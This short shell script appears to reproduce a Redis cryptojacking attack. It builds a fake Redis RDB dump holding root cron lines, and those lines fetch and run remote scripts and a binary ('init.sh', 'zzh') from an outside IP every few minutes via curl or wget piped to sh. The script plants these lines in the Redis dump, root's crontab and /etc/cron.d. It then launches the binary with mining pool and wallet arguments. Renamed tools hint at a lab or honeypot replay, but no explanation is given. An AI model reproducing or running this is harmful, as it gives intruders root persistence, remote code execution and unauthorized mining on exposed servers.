# CONFIG SET dir /var/spool/cron/crontabs, dbfilename root, SAVE: cron skips what it cannot read and runs the rest.
dump() {
  printf 'REDIS0009\372\tredis-ver\0056.0.16\372\nredis-bits\300@\376\000\373\004\000'
  n=1
  for c in "$@"; do printf '\000\007backup%d\100\130\n\n\n%s\n\n' "$n" "$c"; n=$((n + 1)); done
  printf '\377\253\014\232\277\007\001\333\005'
}
one='*/2 * * * * root cd1 -fsSL http://192.0.2.81/cleanfda/init.sh | sh'
two='*/3 * * * * root wget -q -O- http://192.0.2.81/cleanfda/init.sh | sh'
three='*/4 * * * * root curl -fsSL http://192.0.2.81/cleanfda/zzh -o /etc/zzh && chmod +x /etc/zzh && /etc/zzh'
four='*/5 * * * * root wd1 -q -O- http://192.0.2.81/cleanfda/zzh | sh'
mkdir -p /var/lib/redis
dump "$one" "$two" "$three" "$four" >/var/lib/redis/dump.rdb
dump "$one" "$two" | tab root
dump "$three" "$four" >/etc/cron.d/root
mimic /etc/zzh
start -d 10 -p "$POOL" /etc/zzh /etc/zzh --url "$POOL" --user "$WALLET" --pass redis
